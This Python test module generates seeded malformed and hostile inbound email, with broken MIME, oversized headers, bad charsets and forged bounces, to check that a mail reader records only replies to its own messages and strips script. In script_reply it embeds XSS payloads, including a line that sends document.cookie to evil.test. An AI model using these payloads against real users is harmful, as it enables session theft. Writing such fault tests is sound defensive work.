"""A seeded generator of malformed and hostile inbound mail, for the fault tests.

Each message is built from a few "damages" picked at random (broken MIME boundaries, huge
headers, unknown or lying charsets, NULs, 8-bit junk, deeply nested multiparts, bad
transfer encodings, bare CR/LF line ends, ...). A message either points at something we
sent (In-Reply-To, References, a partner's From address, or a delivery report carrying our
Message-ID) or at nothing of ours; the pointer headers come first, so a reader that follows
RFC 5322 can see them whatever follows (and a report's MIME structure stays readable).
"""

from __future__ import annotations

import base64
import random
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass

from workspace import Workspace

CRLF = b"\r\n"
#: multipart nesting depths; pymap (the fast-tier IMAP server) fails above ~150, Dovecot
#: copes with any (it stops parsing MIME structure at its own limit)
DEPTHS = (50, 120)

CHARSETS = [
    "x-no-such-charset",
    "",
    "utf-7",
    "utf-16",
    "utf-32",
    "iso-2022-jp",
    "unicode-1-1-utf-7",
    "us-ascii",
    "utf-8",
    "windows-1252",
    "koi8-r",
    "big5",
    "gb18030",
    '"utf-8',
    "utf-8\x00",
    "cp65001",
    "macintosh",
    "latin1'",
    "x-unknown; format=flowed",
]


@dataclass(frozen=True)
class Hostile:
    raw: bytes
    ours: bool  # points at a message we sent or a partner of ours
    pointer: str  # how: irt / refs / from / dsn / none
    damages: tuple[str, ...]


def _junk(rng: random.Random, size: int) -> bytes:
    return bytes(rng.getrandbits(8) for _ in range(size))


def _text(rng: random.Random) -> bytes:
    words = [
        b"hello",
        b"internship",
        b"thanks",
        b"\xc3\xa9t\xc3\xa9",
        b"\xff\xfe",
        b"\x00",
        b"=?utf-8?q?x?=",
        b"<b>",
        b"&amp;",
        b"\xe2\x80\xae",
        b"\x1b[31m",
        b"Re:",
    ]
    return b" ".join(rng.choice(words) for _ in range(rng.randint(1, 30)))


def _nested(rng: random.Random, depth: int, leaf: bytes) -> bytes:
    body = leaf
    for level in range(depth):
        boundary = f"n{level}".encode()
        body = (
            b'Content-Type: multipart/mixed; boundary="'
            + boundary
            + b'"'
            + CRLF
            + CRLF
            + b"--"
            + boundary
            + CRLF
            + body
            + CRLF
            + b"--"
            + boundary
            + b"--"
            + CRLF
        )
    return body


def hostile_message(
    rng: random.Random,
    seq: int,
    our_ids: list[str],
    partners: list[str],
    ours: bool,
    depths: tuple[int, ...] = DEPTHS,
) -> Hostile:
    """One hostile message; `seq` makes its Message-ID (and header block) unique."""
    head: list[bytes] = []
    pointer = "none"
    sender = f"stranger{seq}@elsewhere{seq % 7}.test".encode()
    if ours:
        pointer = rng.choice(["irt", "irt", "refs", "from", "dsn"])
        target = rng.choice(our_ids).encode()
        if pointer == "irt":
            head.append(b"In-Reply-To: " + target)
        elif pointer == "refs":
            head.append(b"References: <unrelated." + str(seq).encode() + b"@x.test> " + target)
        elif pointer == "from":
            sender = rng.choice(partners).encode()
    else:
        # a reference to something that is not ours
        if rng.random() < 0.3:
            head.append(b"In-Reply-To: <not-ours." + str(seq).encode() + b"@district.test>")
    if pointer == "dsn":
        head.append(b"From: Mail Delivery System <MAILER-DAEMON@mx.partners.test>")
        head.append(b"Return-Path: <>")
    else:
        head.append(
            b"From: "
            + rng.choice([b"", b'"Name, with comma" ', b"=?bogus?q?x?= "])
            + b"<"
            + sender
            + b">"
        )
    head.append(b"To: coordinator@district.test")
    if rng.random() < 0.9:
        head.append(b"Message-ID: <hostile." + str(seq).encode() + b"@fuzz.test>")
    head.append(b"X-Fuzz-Seq: " + str(seq).encode())

    damages: list[tuple[str, Damage]] = []
    for _ in range(rng.randint(1, 3)):
        # big damages are rarer: they cost the test IMAP server time on APPEND
        name, make, weight = rng.choices(DAMAGES, weights=[d[2] for d in DAMAGES])[0]
        if pointer == "dsn" and name == "deep_nesting":
            continue  # a report points at us by its MIME structure: that must stay readable
        if name not in [d[0] for d in damages]:
            damages.append((name, make))
    names: list[str] = []
    body = b""
    content_type = b"Content-Type: text/plain; charset=utf-8"
    extra_head: list[bytes] = []
    for name, make in damages:
        names.append(name)
        ct, more_head, part = make(rng, depths)
        if ct is not None:
            content_type = ct
        extra_head += more_head
        body += part
    if pointer == "dsn":
        target = rng.choice(our_ids).encode()
        content_type = b'Content-Type: multipart/report; report-type=delivery-status; boundary="r"'
        body = (
            b"--r" + CRLF + b"Content-Type: text/plain" + CRLF + CRLF + b"Your message could"
            b" not be delivered."
            + CRLF
            + body
            + CRLF
            + b"--r"
            + CRLF
            + b"Content-Type: message/delivery-status"
            + CRLF
            + CRLF
            + b"Reporting-MTA: dns; mx.partners.test"
            + CRLF
            + CRLF
            + b"Final-Recipient: rfc822; "
            + rng.choice(partners).encode()
            + CRLF
            + b"Action: failed"
            + CRLF
            + b"Status: 5.1.1"
            + CRLF
            + CRLF
            + b"--r"
            + CRLF
            + b"Content-Type: text/rfc822-headers"
            + CRLF
            + CRLF
            + b"Message-ID: "
            + target
            + CRLF
            + b"Subject: Check-in"
            + CRLF
            + rng.choice([b"--r--" + CRLF, b"", b"--r" + CRLF + _junk(rng, 50)])
        )
    head.append(
        b"Subject: "
        + rng.choice(
            [
                b"Re: Check-in",
                b"=?utf-8?b?!!!?=",
                b"=?x-unknown?q?abc?=",
                b"\xff\xfe\xfd",
                b"Re: " + _text(rng),
                b"=?utf-8?q?" + b"A" * 2000 + b"?=",
            ]
        )
    )
    head.append(
        b"Date: "
        + rng.choice(
            [
                b"Tue, 24 Nov 2026 10:00:00 +0000",
                b"yesterday",
                b"",
                b"Mon, 99 Foo 99999 99:99:99",
                b"Tue, 24 Nov 2026 10:00:00 +9999",
            ]
        )
    )
    head.append(b"MIME-Version: 1.0")
    if pointer == "dsn":  # the report's structure is what points at us: keep it readable
        head.append(content_type)
        head += extra_head
    else:
        head += extra_head
        head.append(content_type)
    raw = CRLF.join(head) + CRLF + CRLF + body
    return Hostile(raw=raw, ours=ours, pointer=pointer, damages=tuple(names))


# Each damage returns (Content-Type line or None, extra header lines, body bytes).
Made = tuple[bytes | None, list[bytes], bytes]


def _broken_boundary(rng: random.Random, depths: tuple[int, ...]) -> Made:
    boundary = rng.choice([b"abc", b"", b'"', b"a" * 300])
    ct = b'Content-Type: multipart/mixed; boundary="' + boundary + b'"'
    body = rng.choice(
        [
            b"--xyz" + CRLF + b"Content-Type: text/plain" + CRLF + CRLF + _text(rng) + CRLF,
            b"--abc" + CRLF + b"Content-Type: text/plain" + CRLF + CRLF + _text(rng),  # no end
            b"no boundary at all " + _text(rng),
            b"--abc--" + CRLF + b"--abc" + CRLF + CRLF,
        ]
    )
    return ct, [], body


def _huge_header(rng: random.Random, depths: tuple[int, ...]) -> Made:
    if rng.random() < 0.5:
        return None, [b"X-Huge: " + b"x" * rng.randint(20_000, 200_000)], _text(rng)
    folded = b"X-Folded: " + (b"word " * 50 + CRLF + b" ") * rng.randint(50, 500) + b"end"
    many = [b"X-Many-" + str(i).encode() + b": v" for i in range(rng.randint(100, 3000))]
    return None, [folded, *many], _text(rng)


def _bad_charset(rng: random.Random, depths: tuple[int, ...]) -> Made:
    charset = rng.choice(CHARSETS).encode("latin-1")
    return (
        b'Content-Type: text/plain; charset="' + charset + b'"',
        [b"Content-Transfer-Encoding: " + rng.choice([b"8bit", b"quoted-printable", b"7bit"])],
        _junk(rng, rng.randint(1, 400)) + _text(rng),
    )


def _nuls(rng: random.Random, depths: tuple[int, ...]) -> Made:
    return None, [b"X-Nul: a\x00b\x00c"], b"\x00" * rng.randint(1, 100) + _text(rng) + b"\x00"


def _eight_bit(rng: random.Random, depths: tuple[int, ...]) -> Made:
    return None, [b"X-8bit: " + bytes(rng.randint(128, 255) for _ in range(40))], _junk(rng, 2000)


def _deep_nesting(rng: random.Random, depths: tuple[int, ...]) -> Made:
    depth = rng.choice(depths)
    leaf = b"Content-Type: text/plain" + CRLF + CRLF + _text(rng)
    inner = _nested(rng, depth, leaf)
    ct, _, rest = inner.partition(CRLF + CRLF)
    return ct, [], rest


def _bad_transfer_encoding(rng: random.Random, depths: tuple[int, ...]) -> Made:
    cte = rng.choice([b"base64", b"quoted-printable", b"x-uuencode", b"bogus", b"base64 base64"])
    return (
        None,
        [b"Content-Transfer-Encoding: " + cte],
        rng.choice([b"!!!not base64!!!", b"=ZZ=\r\n=", b"SGVsbG8", _junk(rng, 300)]),
    )


def _line_ends(rng: random.Random, depths: tuple[int, ...]) -> Made:
    return None, [b"X-Lines: bare\rCR\nand LF"], b"line one\rline two\nline three\r\n" * 20


def _long_line(rng: random.Random, depths: tuple[int, ...]) -> Made:
    return None, [], b"y" * rng.randint(5_000, 60_000)


def _no_colon(rng: random.Random, depths: tuple[int, ...]) -> Made:
    # a header line without a colon ends the header section for most parsers
    return None, [b"This is not a header", b": nor is this"], _text(rng)


def _script(rng: random.Random, depths: tuple[int, ...]) -> Made:
    html = (
        b"<html><body><p>Thanks!</p><script>alert(document.cookie)</script>"
        b"<img src=x onerror=alert(1)><iframe src=javascript:alert(2)></iframe></body></html>"
    )
    return b"Content-Type: text/html; charset=utf-8", [], html


def _bad_rfc822(rng: random.Random, depths: tuple[int, ...]) -> Made:
    ct = b'Content-Type: multipart/mixed; boundary="m"'
    body = (
        b"--m"
        + CRLF
        + b"Content-Type: text/plain"
        + CRLF
        + CRLF
        + _text(rng)
        + CRLF
        + b"--m"
        + CRLF
        + b"Content-Type: message/rfc822"
        + CRLF
        + CRLF
        + _junk(rng, 200)
        + CRLF
        + b"--m"
        + CRLF
        + b"Content-Type: message/delivery-status"
        + CRLF
        + CRLF
        + _junk(rng, 100)
        + CRLF
        + b"--m--"
        + CRLF
    )
    return ct, [], body


def _attachment(rng: random.Random, depths: tuple[int, ...]) -> Made:
    ct = b'Content-Type: multipart/mixed; boundary="att"'
    payload = base64.encodebytes(_junk(rng, 3000))
    body = (
        b"--att"
        + CRLF
        + b"Content-Type: text/plain"
        + CRLF
        + CRLF
        + b"See attached."
        + CRLF
        + b"--att"
        + CRLF
        + b'Content-Type: application/octet-stream; name="x\x00.exe"'
        + CRLF
        + b"Content-Transfer-Encoding: base64"
        + CRLF
        + CRLF
        + payload
        + b"--att--"
        + CRLF
    )
    return ct, [], body


Damage = Callable[[random.Random, tuple[int, ...]], Made]
DAMAGES: list[tuple[str, Damage, int]] = [
    ("broken_boundary", _broken_boundary, 10),
    ("huge_header", _huge_header, 1),
    ("bad_charset", _bad_charset, 10),
    ("nuls", _nuls, 10),
    ("eight_bit", _eight_bit, 10),
    ("deep_nesting", _deep_nesting, 2),
    ("bad_transfer_encoding", _bad_transfer_encoding, 10),
    ("line_ends", _line_ends, 10),
    ("long_line", _long_line, 1),
    ("no_colon", _no_colon, 10),
    ("script", _script, 10),
    ("bad_rfc822", _bad_rfc822, 10),
    ("attachment", _attachment, 10),
]


def big_attachment_reply(in_reply_to: str, size: int = 5 * 1024 * 1024) -> bytes:
    """A reply with a `size`-byte attachment (base64), pointing at our message."""
    rng = random.Random(size)
    payload = base64.encodebytes(rng.randbytes(size))
    return (
        b"From: partner@partners.test\r\nTo: coordinator@district.test\r\n"
        b"Subject: Re: Check-in\r\nIn-Reply-To: " + in_reply_to.encode() + b"\r\n"
        b"Message-ID: <big.attachment@fuzz.test>\r\nMIME-Version: 1.0\r\n"
        b'Content-Type: multipart/mixed; boundary="big"\r\n\r\n--big\r\n'
        b"Content-Type: text/plain; charset=utf-8\r\n\r\nOur annual report is attached.\r\n"
        b'--big\r\nContent-Type: application/pdf; name="report.pdf"\r\n'
        b"Content-Transfer-Encoding: base64\r\n\r\n"
        + payload.replace(b"\n", b"\r\n")
        + b"--big--\r\n"
    )


def script_reply(in_reply_to: str, sender: str) -> bytes:
    """An HTML-only reply that carries script, handlers and a javascript: URL."""
    return (
        f"From: {sender}\r\nTo: coordinator@district.test\r\nSubject: Re: Check-in\r\n"
        f"In-Reply-To: {in_reply_to}\r\nMessage-ID: <script.reply@fuzz.test>\r\n"
        "MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
        "<html><head><script>fetch('https://evil.test/?'+document.cookie)</script></head>"
        "<body><p>We are doing <b>great</b>, thanks!</p>"
        "<script>alert('xss')</script><img src=x onerror=\"alert(1)\">"
        '<a href="javascript:alert(2)">click</a></body></html>\r\n'
    ).encode()


# --------------------------------------------------------------------------- the check


def corpus(
    seed: int,
    count: int,
    our_ids: dict[str, str],
    *,
    ours_share: float = 0.3,
    depths: tuple[int, ...] = DEPTHS,
) -> list[Hostile]:
    """`count` hostile messages, then a reply with a 5 MB attachment and an HTML reply full
    of script, both pointing at the first partners' messages. `our_ids`: partner -> the
    Message-ID we sent them."""
    rng = random.Random(seed)
    partners = sorted(our_ids)
    ids = sorted(our_ids.values())
    made = [
        hostile_message(rng, seq, ids, partners, rng.random() < ours_share, depths)
        for seq in range(count)
    ]
    made.append(Hostile(big_attachment_reply(our_ids[partners[0]]), True, "irt", ("5 MB",)))
    made.append(
        Hostile(script_reply(our_ids[partners[1]], partners[1]), True, "irt", ("script reply",))
    )
    return made


def assert_read_correctly(ws: Workspace, made: list[Hostile], uids: list[int]) -> None:
    """Every message that points at us is recorded once (as its kind or `error`), no other
    message is recorded, and the two content-hostile replies keep the partner's words."""
    rows = ws.store.query("SELECT uid, kind, partner_id, error, text FROM inbound")
    recorded = Counter(r["uid"] for r in rows)
    assert set(recorded.values()) <= {1}, "a message was recorded twice"
    by_uid = dict(zip(uids, made, strict=True))
    expected = {uid for uid, h in by_uid.items() if h.ours}
    missed = sorted(expected - set(recorded))
    extra = sorted(set(recorded) - expected)
    assert not missed, [(u, by_uid[u].pointer, by_uid[u].damages) for u in missed[:10]]
    assert not extra, [(u, by_uid[u].pointer, by_uid[u].damages) for u in extra[:10]]
    kinds = Counter(r["kind"] for r in rows)
    assert set(kinds) <= {"reply", "auto_reply", "bounce", "unsubscribe", "other", "error"}
    assert all(r["error"] for r in rows if r["kind"] == "error"), "an error keeps its reason"
    assert all(r["partner_id"] for r in rows if r["kind"] != "error")

    big, script = (next(r for r in rows if r["uid"] == uid) for uid in uids[-2:])
    assert big["kind"] == "reply" and big["text"] == "Our annual report is attached."
    # the script reply is kept as plain text: the partner's words, no markup, no script
    assert script["kind"] == "reply"
    assert "doing great, thanks!" in script["text"]
    for needle in ("<", "alert", "document.cookie", "javascript:"):
        assert needle not in script["text"]


# --------------------------------------------------------------------------- forged mail
# Mail a stranger can write without having seen anything outreach sent: it must never change
# a partner's record by itself (see outreach.core.inbound.match.match_message).


def forged_bounce(
    partner: str, *, status: str = "5.1.1", message_id: str = "<made.up.1@district.test>"
) -> bytes:
    """A well-formed RFC 3464 bounce naming `partner` as the failed recipient, returning the
    headers of a message outreach never sent (a Message-ID the stranger made up)."""
    from outreach.testing import partner_mail

    never_sent = (
        f"From: Coordinator <coordinator@district.test>\r\nTo: {partner}\r\n"
        f"Subject: Check-in\r\nMessage-ID: {message_id}\r\n\r\nHello\r\n"
    ).encode()
    return partner_mail.bounce(
        never_sent,
        status=status,
        reporting_mta="mx.evil.test",
        diagnostic=f"{status[0]}50 {status} <{{rcpt}}>: mailbox gone",
    )


def with_header(raw: bytes, name: str, value: bytes) -> bytes:
    """`raw` with header `name` set to `value` (replaced, or added first)."""
    head, sep, body = raw.partition(b"\r\n\r\n")
    lines = head.split(b"\r\n")
    prefix = name.lower().encode() + b":"
    kept = [line for line in lines if not line.lower().startswith(prefix)]
    kept.insert(0, name.encode() + b": " + value)
    return b"\r\n".join(kept) + sep + body


def message_id_of(raw: bytes) -> str:
    for line in raw.split(b"\r\n\r\n", 1)[0].split(b"\r\n"):
        if line.lower().startswith(b"message-id:"):
            return line.split(b":", 1)[1].strip().decode()
    raise AssertionError("no Message-ID")
